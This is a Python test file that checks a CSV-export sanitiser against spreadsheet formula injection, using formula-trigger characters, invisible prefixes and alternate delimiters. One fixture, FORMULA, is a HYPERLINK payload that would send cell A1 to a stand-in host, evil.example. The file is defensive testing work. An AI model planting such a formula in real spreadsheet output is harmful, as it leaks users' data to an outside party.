"""A spreadsheet shows what Chipin writes, and runs none of it."""

import csv
import io
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.csv_safe import Number, csv_row, safe_text, usd

STRIPPED = " \t\r\n\v\f\0\u00a0\u200b\u200c\u200d\u2060\ufeff\u3000\u00ad\u2800\u3164\u2028\u2029\u202e"
RUN = "=+-@＝＋－＠﹦﹢﹣﹫−"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
NASTY = st.text(alphabet=st.sampled_from([*STRIPPED, *RUN, *"\"';,|:ab1(){}\n\r\t"]), max_size=12)
TEXTS = NASTY | st.text(max_size=12)


def parsed(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def runs(cell: str) -> bool:
    """Whether some spreadsheet would take this for a formula: what it may strip is stripped, and widths are folded."""
    shown = cell.lstrip(STRIPPED)
    while shown and (shown[0].isspace() or unicodedata.category(shown[0]) in ("Cc", "Cf", "Cn", "Co", "Zs")):
        shown = shown[1:]
    return cell[:1] in ("\t", "\r", "\n") or (shown != "" and shown[0] in RUN)


@pytest.mark.parametrize(
    "begins",
    [*RUN, "\t=", "\r+", "\n-", " =", "\u00a0=", "\u200b@", "\u2065=", "\uffff+", "\ufeff=", "  ＝", "\u3000＋"],
)
def test_no_text_begins_a_formula(begins: str) -> None:
    (row,) = parsed(csv_row(["name", f"{begins}1+1"]))
    assert not runs(row[1])
    assert row[1].lstrip("'").strip(STRIPPED).endswith("1+1")


@given(st.lists(TEXTS, min_size=1, max_size=4))
@example([FORMULA])
@example(['x","=1+1'])
@example(["a;=1+1", "b\t=1+1"])
def test_whatever_people_write_is_one_row_in_which_nothing_runs(texts: list[str]) -> None:
    written = csv_row(["first", *texts])
    assert written.count("\n") == written.count("\r") == 1
    (row,) = parsed(written)
    assert len(row) == len(texts) + 1
    assert not any(runs(cell) for cell in row)


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_nothing_runs_where_a_spreadsheet_cuts_the_line_elsewhere(texts: list[str]) -> None:
    line = csv_row(["first", *texts]).removesuffix("\r\n")
    cells = [cell for separator in ";\t|" for row in parsed(line, separator) for cell in row]
    assert not any(runs(cell) for cell in cells)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (usd(-1), "-0.000000001"),
        (usd(-1_500_000_000), "-1.500000000"),
        (usd(10**18), "1000000000.000000000"),
        (-7, "-7"),
        (0, "0"),
        (None, ""),
        ("", ""),
        ("-7", '"\'-7"'),
        ('say "hi"', '"say ""hi"""'),
        ("2026-11-01T00:00:00Z", '"2026-11-01T00:00:00Z"'),
        ("Zoë, 李", '"Zoë, 李"'),
        ("two\r\nlines", '"two  lines"'),
        ('{"tag":"launch"}', '"{""tag"":""launch""}"'),
    ],
)
def test_cells_are_written_so(cell: str | int | Number | None, written: str) -> None:
    assert csv_row([cell]) == f"{written}\r\n"


@given(st.integers(min_value=-(10**18), max_value=10**18))
def test_an_amount_is_read_back_to_the_nano_dollar(nanos: int) -> None:
    (row,) = parsed(csv_row(["amount", usd(nanos)]))
    assert int(row[1].replace(".", "")) == nanos


@given(st.text(alphabet="abcXYZ019 .:/()äß李", max_size=20))
def test_what_is_harmless_is_left_as_it_is(text: str) -> None:
    assert safe_text(text) == text


def test_half_a_character_can_be_written_to_a_file() -> None:
    assert safe_text("a\ud800b").encode() == "a\N{REPLACEMENT CHARACTER}b".encode()
